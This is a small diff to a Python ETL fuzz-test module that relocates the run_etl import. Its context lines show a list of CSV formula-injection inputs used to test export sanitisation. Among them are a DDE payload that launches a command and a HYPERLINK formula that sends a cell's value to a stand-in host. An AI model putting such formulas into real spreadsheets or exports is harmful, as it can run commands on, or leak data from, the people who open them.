@@ -20,8 +20,8 @@ import pyarrow.csv
 import pyarrow.parquet
 import pytest
 
-from tests.etl import run_etl
 from tests.fuzz.pages import ODD_TEXTS, good_post, line_of
+from tests.helpers.etl import run_etl
 
 FORMULAS = ["=1+1", '=HYPERLINK("https://example.org?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1"]
 FORMULAS += ["@nasa hello", "\t=1", "\r=1", "\n=1", "\uff1d1"]
